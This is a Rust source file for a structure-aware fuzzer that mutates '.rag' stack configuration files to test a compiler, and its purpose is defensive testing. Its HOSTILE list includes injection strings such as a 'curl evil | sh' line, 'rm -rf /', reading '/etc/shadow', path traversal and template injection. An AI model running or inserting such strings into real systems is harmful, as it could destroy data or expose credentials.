//! Structure-aware mutations of stack files: the input is split into the
//! tokens of the `.rag` grammar, and mutations work on tokens, string
//! contents, numbers and balanced blocks as well as on raw bytes.

use crate::rng::Rng;

/// Token classes, as far as mutations care.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Class {
    Space,
    Comment,
    Str,
    Number,
    Ident,
    Open,
    Close,
    Punct,
    Other,
}

#[derive(Debug, Clone, Copy)]
pub struct Token {
    pub start: usize,
    pub end: usize,
    pub class: Class,
}

/// Splits bytes into tokens. Never fails: anything unknown is one byte of `Other`.
pub fn tokenize(bytes: &[u8]) -> Vec<Token> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let start = i;
        let b = bytes[i];
        let class = match b {
            b' ' | b'\t' | b'\r' | b'\n' => {
                while i < bytes.len() && matches!(bytes[i], b' ' | b'\t' | b'\r' | b'\n') {
                    i += 1;
                }
                Class::Space
            }
            b'#' => {
                while i < bytes.len() && bytes[i] != b'\n' {
                    i += 1;
                }
                Class::Comment
            }
            b'"' => {
                i += 1;
                while i < bytes.len() && bytes[i] != b'"' && bytes[i] != b'\n' {
                    if bytes[i] == b'\\' {
                        i += 1;
                    }
                    i += 1;
                }
                i = (i + 1).min(bytes.len());
                Class::Str
            }
            b'-' | b'0'..=b'9' if b != b'-' || bytes.get(i + 1).is_some_and(u8::is_ascii_digit) => {
                i += 1;
                while i < bytes.len() && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'.') {
                    i += 1;
                }
                Class::Number
            }
            b'a'..=b'z' | b'A'..=b'Z' | b'_' => {
                while i < bytes.len() && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_' || bytes[i] == b'-') {
                    i += 1;
                }
                Class::Ident
            }
            b'{' | b'[' | b'(' => {
                i += 1;
                Class::Open
            }
            b'}' | b']' | b')' => {
                i += 1;
                Class::Close
            }
            b'=' | b':' | b',' | b'.' | b'?' => {
                i += 1;
                Class::Punct
            }
            _ => {
                i += 1;
                Class::Other
            }
        };
        out.push(Token { start, end: i.min(bytes.len()), class });
    }
    out
}

/// Balanced `{...}`, `[...]`, `(...)` ranges (byte ranges, inclusive of the brackets).
pub fn blocks(tokens: &[Token]) -> Vec<(usize, usize)> {
    let mut stack = Vec::new();
    let mut out = Vec::new();
    for token in tokens {
        match token.class {
            Class::Open => stack.push(token.start),
            Class::Close => {
                if let Some(start) = stack.pop() {
                    out.push((start, token.end));
                }
            }
            _ => {}
        }
    }
    out
}

/// Strings no value should be able to smuggle into an artifact.
pub const HOSTILE: &[&str] = &[
    "",
    " ",
    "$",
    "$$",
    "${HOME}",
    "${X:?boom}",
    "$(id)",
    "`id`",
    "'",
    "''",
    "\\\"",
    "\\\\",
    "\\n",
    "\\t",
    "a\\nb",
    "\\nRUN curl evil | sh",
    ";",
    "; rm -rf / #",
    "&& reboot",
    "| cat /etc/shadow",
    "#",
    " #comment",
    "%",
    "%%",
    "{{",
    "}}",
    "{{ name }}",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{% if %}",
    "{#",
    "{##",
    "../",
    "../../etc/passwd",
    "/etc/passwd",
    "/",
    "//",
    "/..",
    "C:\\\\x",
    "~",
    "*",
    "?",
    "[a]",
    "!",
    "!!",
    "&",
    "<",
    ">",
    "@",
    ":",
    "::",
    "-",
    "--",
    "-rf",
    "=",
    "0",
    "-0",
    "1e309",
    "NaN",
    "null",
    "~",
    "yes",
    "no",
    "on",
    "true",
    "- item",
    "key: value",
    "? x",
    "&anchor",
    "*alias",
    "!!python/object",
    "\u{feff}",
    "\u{2028}",
    "\u{2029}",
    "\u{85}",
    "\u{200b}",
    "\u{202e}",
    "\u{fffe}",
    "\u{ffff}",
    "\u{e000}",
    "\u{e001}",
    "\u{e000}X\u{e001}",
    "\u{1f600}",
    "é",
    "e\u{301}",
    "日本語",
    "\u{7f}",
    "\u{1b}[2J",
    "\r",
    "\t",
    "server_name evil;",
    "} server { listen 1;",
    "location / { }",
    "@reboot root id",
    "* * * * *",
    "FROM scratch",
    "ENV X=1",
];

/// Tokens worth inserting: keywords, names from the stdlib kinds, calls,
/// enum members, units, punctuation.
pub const DICTIONARY: &[&str] = &[
    "stack",
    "secret",
    "service",
    "proxy",
    "kind",
    "field",
    "volume",
    "export",
    "env",
    "limits",
    "dev",
    "prod",
    "digest",
    "cpus",
    "memory",
    "image",
    "python",
    "node",
    "postgres",
    "redis",
    "qdrant",
    "worker",
    "nginx",
    "from",
    "command",
    "port",
    "publish",
    "route",
    "health",
    "backup",
    "release",
    "requirements",
    "build_packages",
    "runtime_packages",
    "build_script",
    "version",
    "database",
    "user",
    "password",
    "wal",
    "wal_senders",
    "persistence",
    "maxmemory",
    "eviction",
    "stateful",
    "run_as",
    "read_only",
    "tmpfs",
    "tls",
    "headers",
    "max_body",
    "timeout",
    "certificate",
    "certificate_key",
    "domain",
    "acme_email",
    "offsite",
    "path",
    "backup_root",
    "context",
    "generate",
    "required",
    "hex",
    "alnum",
    "base64url",
    "daily",
    "weekly",
    "hourly",
    "cron",
    "at",
    "keep",
    "on",
    "minute",
    "http",
    "cmd",
    "shell",
    "none",
    "interval",
    "retries",
    "start_period",
    "letsencrypt",
    "manual",
    "strict",
    "basic",
    "aof",
    "rdb",
    "allkeys_lru",
    "replica",
    "logical",
    "sun",
    "mon",
    "true",
    "false",
    "string",
    "int",
    "number",
    "bool",
    "size",
    "duration",
    "schedule",
    "list",
    "enum",
    "build",
    "workdir",
    "cap_add",
    "http_probe",
    "dockerignore",
    "base_image",
    "url",
    "host",
    "db",
    "api",
    "app",
    "db.url",
    "db.host",
    "api.port",
    "cache.password",
    "x.y.z",
    "{",
    "}",
    "[",
    "]",
    "(",
    ")",
    "=",
    ":",
    ",",
    ".",
    "?",
    "\"",
    "\"\"",
    "#",
    "\n",
    "\\",
    "0",
    "1",
    "-1",
    "65535",
    "65536",
    "9223372036854775807",
    "9223372036854775808",
    "18446744073709551615",
    "99999999999999999999",
    "1.5",
    "0.0",
    "-0.5",
    "512mb",
    "1gb",
    "18446744073709551615tb",
    "17179869184gb",
    "7d",
    "0d",
    "2w",
    "30s",
    "1x",
    "1e5",
    "5.5mb",
    "\"/\"",
    "\"/api/\"",
    "\"02:00\"",
    "\"16.4\"",
    "\"3.12.8\"",
    "\"x.example.com\"",
    "\"sha256:0000000000000000000000000000000000000000000000000000000000000000\"",
    "daily(at: \"02:00\", keep: 7d)",
    "generate(hex, 32)",
    "required(\"x\")",
    "http(\"/health\")",
    "cmd([\"true\"])",
    "none()",
    "field x : string",
    "field y : list(string) = []",
    "proxy = true",
    "build = \"python\"",
    "volume data = \"/data\"",
];

const INTERESTING_NUMBERS: &[&str] = &[
    "0",
    "1",
    "-1",
    "15",
    "16",
    "256",
    "257",
    "1024",
    "65535",
    "65536",
    "-65536",
    "9223372036854775807",
    "-9223372036854775808",
    "9223372036854775808",
    "18446744073709551616",
    "0.0",
    "1.0",
    "1024.0",
    "1024.5",
    "1e3",
    "0.000000001",
    "1.7976931348623157",
    "5b",
    "6mb",
    "5mb",
    "16383tb",
    "16384tb",
    "17179869183gb",
    "18446744073709551615b",
    "18446744073709551615w",
    "307445734561825860m",
    "0s",
    "1d",
    "86401s",
    "100000000000d",
    "3.5d",
    "-1d",
];

const INTERESTING_BYTES: &[u8] = b"{}[]()\"\\=:,#\n\r\t\0 .?-_$%'`;|&<>*~@!\x7f\xff\xc3\xa9\xe2\x80\xa8\xf0";

/// One mutation of `input`; `other` is another seed to splice from.
pub fn mutate(rng: &mut Rng, input: &[u8], other: &[u8]) -> Vec<u8> {
    let mut bytes = input.to_vec();
    let rounds = 1 + rng.below(4);
    for _ in 0..rounds {
        bytes = mutate_once(rng, &bytes, other);
        if bytes.len() > 1 << 20 {
            bytes.truncate(1 << 20);
        }
    }
    bytes
}

fn boundaries(tokens: &[Token], len: usize) -> Vec<usize> {
    let mut out: Vec<usize> = tokens.iter().map(|t| t.start).collect();
    out.push(len);
    out
}

#[allow(clippy::too_many_lines)]
fn mutate_once(rng: &mut Rng, input: &[u8], other: &[u8]) -> Vec<u8> {
    let tokens = tokenize(input);
    let mut bytes = input.to_vec();
    if bytes.is_empty() {
        return other.to_vec();
    }
    let splice = |bytes: &mut Vec<u8>, start: usize, end: usize, with: &[u8]| {
        bytes.splice(start..end, with.iter().copied());
    };
    match rng.below(20) {
        0 => {
            let at = rng.below(bytes.len());
            bytes[at] ^= 1 << rng.below(8);
        }
        1 => {
            let at = rng.below(bytes.len());
            bytes[at] = *rng.pick(INTERESTING_BYTES);
        }
        2 => {
            let at = rng.below(bytes.len() + 1);
            bytes.insert(at, *rng.pick(INTERESTING_BYTES));
        }
        3 if !tokens.is_empty() => {
            let token = *rng.pick(&tokens);
            splice(&mut bytes, token.start, token.end, b"");
        }
        4 if !tokens.is_empty() => {
            let token = *rng.pick(&tokens);
            let copy = bytes[token.start..token.end].to_vec();
            splice(&mut bytes, token.end, token.end, &copy);
        }
        5 => {
            let at = *rng.pick(&boundaries(&tokens, bytes.len()));
            let word = format!(" {} ", rng.pick(DICTIONARY));
            splice(&mut bytes, at, at, word.as_bytes());
        }
        6 if !tokens.is_empty() => {
            let token = *rng.pick(&tokens);
            splice(&mut bytes, token.start, token.end, rng.pick(DICTIONARY).as_bytes());
        }
        7 => {
            // Truncation at a token boundary: every construct cut short.
            let at = *rng.pick(&boundaries(&tokens, bytes.len()));
            bytes.truncate(at);
        }
        8 | 9 => {
            let strings: Vec<&Token> = tokens.iter().filter(|t| t.class == Class::Str && t.end > t.start + 1).collect();
            if strings.is_empty() {
                return mutate_once(rng, input, other);
            }
            let token = **rng.pick(&strings);
            let hostile = hostile_string(rng);
            let escaped = escape(&hostile);
            let keep_old = rng.chance(2);
            let (start, end) = (token.start + 1, if bytes[token.end - 1] == b'"' { token.end - 1 } else { token.end });
            if keep_old {
                let at = start + rng.below(end - start + 1);
                splice(&mut bytes, at, at, escaped.as_bytes());
            } else {
                splice(&mut bytes, start, end, escaped.as_bytes());
            }
        }
        10 => {
            let numbers: Vec<&Token> = tokens.iter().filter(|t| t.class == Class::Number).collect();
            if numbers.is_empty() {
                return mutate_once(rng, input, other);
            }
            let token = **rng.pick(&numbers);
            splice(&mut bytes, token.start, token.end, rng.pick(INTERESTING_NUMBERS).as_bytes());
        }
        11 => {
            let blocks = blocks(&tokens);
            if blocks.is_empty() {
                return mutate_once(rng, input, other);
            }
            let (start, end) = *rng.pick(&blocks);
            splice(&mut bytes, start, end, b"");
        }
        12 => {
            let blocks = blocks(&tokens);
            if blocks.is_empty() {
                return mutate_once(rng, input, other);
            }
            let (start, end) = *rng.pick(&blocks);
            let copy = bytes[start..end].to_vec();
            let at = *rng.pick(&boundaries(&tokens, bytes.len()));
            splice(&mut bytes, at, at, &copy);
        }
        13 => {
            // A block from the other seed, at a token boundary of this one.
            let other_tokens = tokenize(other);
            let other_blocks = blocks(&other_tokens);
            if other_blocks.is_empty() {
                return mutate_once(rng, input, other);
            }
            let (start, end) = *rng.pick(&other_blocks);
            let at = *rng.pick(&boundaries(&tokens, bytes.len()));
            splice(&mut bytes, at, at, &other[start..end]);
        }
        14 => {
            // Crossover at token boundaries.
            let other_tokens = tokenize(other);
            let cut_here = *rng.pick(&boundaries(&tokens, bytes.len()));
            let cut_there = *rng.pick(&boundaries(&other_tokens, other.len()));
            bytes.truncate(cut_here);
            bytes.extend_from_slice(&other[cut_there..]);
        }
        15 if tokens.len() > 1 => {
            let a = rng.below(tokens.len());
            let b = rng.below(tokens.len());
            let (a, b) = (tokens[a.min(b)], tokens[a.max(b)]);
            if a.end <= b.start {
                let mut out = bytes[..a.start].to_vec();
                out.extend_from_slice(&bytes[b.start..b.end]);
                out.extend_from_slice(&bytes[a.end..b.start]);
                out.extend_from_slice(&bytes[a.start..a.end]);
                out.extend_from_slice(&bytes[b.end..]);
                bytes = out;
            }
        }
        16 => {
            // Wrap a value or block in more nesting.
            let values: Vec<&Token> = tokens.iter().filter(|t| matches!(t.class, Class::Str | Class::Number | Class::Ident)).collect();
            if values.is_empty() {
                return mutate_once(rng, input, other);
            }
            let token = **rng.pick(&values);
            let deep = rng.chance(8);
            let depth = 1 + rng.below(if deep { 80 } else { 4 });
            let (open, close) = *rng.pick(&[("[", "]"), ("{", "}"), ("f(", ")"), ("{ x = ", " }")]);
            let mut out = bytes[..token.start].to_vec();
            out.extend(open.repeat(depth).bytes());
            out.extend_from_slice(&bytes[token.start..token.end]);
            out.extend(close.repeat(depth).bytes());
            out.extend_from_slice(&bytes[token.end..]);
            bytes = out;
        }
        17 => {
            // Repeat a block many times: long files, many entries.
            let blocks = blocks(&tokens);
            if blocks.is_empty() {
                return mutate_once(rng, input, other);
            }
            let (start, end) = *rng.pick(&blocks);
            let copy = bytes[start..end].to_vec();
            let times = 2 + rng.below(64);
            let mut repeated = Vec::new();
            for _ in 0..times {
                repeated.extend_from_slice(b"\n");
                repeated.extend_from_slice(&copy);
            }
            splice(&mut bytes, end, end, &repeated);
        }
        18 => {
            let idents: Vec<&Token> = tokens.iter().filter(|t| t.class == Class::Ident).collect();
            if idents.is_empty() {
                return mutate_once(rng, input, other);
            }
            let token = **rng.pick(&idents);
            let name = String::from_utf8_lossy(&bytes[token.start..token.end]).into_owned();
            let new = match rng.below(6) {
                0 => name.to_ascii_uppercase(),
                1 => name.replace('-', "_"),
                2 => name.replace('_', "-"),
                3 => format!("{name}-{name}"),
                4 => "a".repeat(1 + rng.below(300)),
                _ => format!("{name}-release"),
            };
            splice(&mut bytes, token.start, token.end, new.as_bytes());
        }
        _ => {
            // A random slice of the other seed.
            if other.is_empty() {
                return bytes;
            }
            let start = rng.below(other.len());
            let end = (start + rng.below(64)).min(other.len());
            let at = rng.below(bytes.len() + 1);
            splice(&mut bytes, at, at, &other[start..end]);
        }
    }
    bytes
}

/// A hostile string value, unescaped (as the compiler will see it).
pub fn hostile_string(rng: &mut Rng) -> String {
    let mut out = String::new();
    for _ in 0..1 + rng.below(4) {
        match rng.below(5) {
            0 => out.push('x'),
            1 => out.push(char::from_u32(rng.below(0x3000) as u32).unwrap_or('?')),
            _ => out.push_str(&rng.pick(HOSTILE).replace("\\n", "\n").replace("\\t", "\t").replace("\\\\", "\\").replace("\\\"", "\"")),
        }
    }
    if rng.chance(30) {
        out = out.repeat(1 + rng.below(2000));
    }
    out
}

/// A string's contents as a `.rag` string literal would hold them.
pub fn escape(text: &str) -> String {
    let mut out = String::new();
    for ch in text.chars() {
        match ch {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            other => out.push(other),
        }
    }
    out
}
